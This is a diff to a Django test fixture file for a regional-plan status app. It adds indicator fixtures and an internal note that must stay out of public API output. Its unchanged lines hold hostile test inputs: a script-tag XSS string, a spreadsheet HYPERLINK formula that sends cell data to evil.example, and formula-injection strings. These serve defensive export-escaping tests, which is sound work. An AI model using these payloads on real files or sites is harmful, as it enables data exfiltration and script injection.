@@ -5,14 +5,16 @@ text. Shared by the open-data, API and schema-fuzzing tests."""
 from __future__ import annotations
 
 import datetime
+from decimal import Decimal
 
 from django.contrib.auth import get_user_model
 from django.contrib.auth.models import User
 from django.utils import timezone
 
 from planstatus.accounts.models import Membership
+from planstatus.indicators.models import Indicator, IndicatorTarget, IndicatorValue
 from planstatus.plans.models import Measure, MeasureActor, Status, StatusUpdate
-from planstatus.regions.models import Actor
+from planstatus.regions.models import Actor, Municipality
 from planstatus.reporting.models import ReportingRound, RoundReport
 from tests.base import BaseTestCase
 
@@ -24,8 +26,12 @@ PUBLIC_COMMENT = "Offentleg: arbeidet er i gang på Ål og Gol"
 HOSTILE_TEXT = '<script>alert("tiltak")</script> Næringsareal på Ål'
 HOSTILE_COMMENT = '=HYPERLINK("https://evil.example/?x="&A1,"Klikk")'
 FORMULA_TEXTS = ["=1+1", "+47 tiltak", "-1 tiltak", "@SUM(A1)"]
-# Everything that must never reach a public answer, whatever its format.
+# ASCII, like the others: the API escapes other characters, and a search for them would pass.
+INDICATOR_NOTE = "Kjeldenotat-7f3: intern rapport, ikkje offentleg"
+# Everything of the plan that must never reach a public answer, whatever its format.
 SECRETS = [INTERNAL_COMMENT, EVIDENCE_URL, REPORTER, ROUND_TITLE]
+# The API answers for indicators too (the plan files hold none).
+API_SECRETS = [*SECRETS, INDICATOR_NOTE]
 
 
 def add_update(
@@ -55,6 +61,9 @@ def add_update(
 class OpenDataTestCase(BaseTestCase):
     reporter: User
     hostile: Measure
+    indicator: Indicator
+    fla: Municipality
+    gol: Municipality
     involved: Actor
     t0: datetime.datetime
 
@@ -123,3 +132,41 @@ class OpenDataTestCase(BaseTestCase):
             public=True,
             at=cls.t0,
         )
+
+        # An indicator summed from two municipalities, one value with an internal note.
+        cls.fla = Municipality.objects.create(
+            region=cls.region,
+            name="Flå",
+            number="3320",
+            number_2020_2023="3039",
+            number_before_2020="0615",
+        )
+        cls.gol = Municipality.objects.create(region=cls.region, name="Gol", number="3324")
+        cls.indicator = Indicator.objects.create(
+            plan=cls.plan,
+            name="Studieplassar",
+            unit="plassar",
+            aggregation=Indicator.Aggregation.SUM,
+            baseline_value=Decimal(300),
+            baseline_year=2020,
+            source="SSB",
+            definition="Studieplassar på fagskule- og høgskulenivå.",
+        )
+        cls.indicator.goals.add(cls.measure.goal)  # type: ignore[arg-type]
+        cls.indicator.measures.add(cls.measure)
+        IndicatorTarget.objects.create(
+            indicator=cls.indicator, year=2030, value=Decimal(600), note="Regionplanen"
+        )
+        for municipality, period, value, note, by in [
+            (cls.fla, "2024", "200.5", INDICATOR_NOTE, cls.reporter),
+            (cls.gol, "2024", "260", "", cls.owner),
+            (cls.fla, "2025", "210", "", cls.owner),
+        ]:
+            IndicatorValue.objects.create(
+                indicator=cls.indicator,
+                municipality=municipality,
+                period=period,
+                value=Decimal(value),
+                source_note=note,
+                entered_by=by,
+            )
